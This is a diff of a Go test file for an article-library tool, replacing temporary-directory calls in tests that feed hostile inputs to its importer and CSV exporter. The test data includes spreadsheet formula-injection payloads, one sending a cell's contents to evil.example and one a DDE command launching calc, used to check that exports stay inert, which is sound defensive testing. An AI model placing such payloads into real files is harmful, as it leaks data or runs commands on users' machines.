@@ -27,7 +27,7 @@ const goodText = "Un titre\n\nLe Vietnam et le Japon ont tenu des entretiens à 
 // seededLibrary is a library holding the five seed pages, with their list.
 func seededLibrary(t *testing.T) (db string, before []articleJSON) {
 	t.Helper()
-	db = filepath.Join(t.TempDir(), "lib.parley")
+	db = filepath.Join(apptest.TempDir(t), "lib.parley")
 	mustCLI(t, db, "import", apptest.SeedsDir(t))
 	return db, articlesJSON(t, db)
 }
@@ -121,7 +121,7 @@ func TestHostileFilesInOneBatch(t *testing.T) {
 		{"scripted.html", []byte(scripted), ""},
 		{"good.txt", []byte(goodText), ""},
 	}
-	dir := t.TempDir()
+	dir := apptest.TempDir(t)
 	files := map[string][]byte{}
 	for _, c := range cases {
 		files[c.name] = c.content
@@ -174,7 +174,7 @@ func TestHostileFilesInOneBatch(t *testing.T) {
 // allocates far less than the file holds.
 func TestHostileHugeFile(t *testing.T) {
 	db, before := seededLibrary(t)
-	dir := t.TempDir()
+	dir := apptest.TempDir(t)
 	huge := filepath.Join(dir, "huge.txt")
 	f, err := os.Create(huge)
 	if err != nil {
@@ -212,7 +212,7 @@ func TestHostileHugeFile(t *testing.T) {
 // Odd file names import like any other, named as they are.
 func TestHostileFileNames(t *testing.T) {
 	db, before := seededLibrary(t)
-	dir := t.TempDir()
+	dir := apptest.TempDir(t)
 	names := []string{
 		"with spaces.txt", "accentué é.txt", "decomposed e\u0301.txt", `quote"s and 'apostrophes'.txt`,
 		"-leading-dash.txt", "--double-dash.csv", "=HYPERLINK(1).txt", "tab\there.txt", "日本語.txt", "UPPER.TXT",
@@ -273,8 +273,8 @@ func TestHostileFileNames(t *testing.T) {
 // reported with its reason, and the rest of the folder lands.
 func TestHostileSymlinkLoops(t *testing.T) {
 	db, before := seededLibrary(t)
-	dir := t.TempDir()
-	outside := filepath.Join(t.TempDir(), "outside.txt")
+	dir := apptest.TempDir(t)
+	outside := filepath.Join(apptest.TempDir(t), "outside.txt")
 	writeFiles(t, dir, map[string][]byte{"good.txt": []byte(goodText), "sub/inner.txt": []byte("Titre\n\nUn texte dans un sous-dossier.\n")})
 	if err := os.WriteFile(outside, []byte("Titre\n\nUn texte hors du dossier, lié.\n"), 0o644); err != nil {
 		t.Fatal(err)
@@ -340,7 +340,7 @@ func TestHostileSymlinkLoops(t *testing.T) {
 // imported as text, and every export writes them as inert cells.
 func TestHostileFormulaTitlesExported(t *testing.T) {
 	db, _ := seededLibrary(t)
-	dir := t.TempDir()
+	dir := apptest.TempDir(t)
 	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`, "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)"}
 	var csvText strings.Builder
 	csvText.WriteString("title,text,published,source\n")
@@ -367,7 +367,7 @@ func TestHostileFormulaTitlesExported(t *testing.T) {
 
 	for _, kind := range []string{"articles", "meetings"} {
 		for _, sep := range []string{",", ";"} {
-			path := filepath.Join(t.TempDir(), kind+".csv")
+			path := filepath.Join(apptest.TempDir(t), kind+".csv")
 			mustCLI(t, db, "export", kind, "--out", path, "--sep", sep)
 			rows := readCSV(t, path, rune(sep[0]))
 			if len(rows) < 2 {
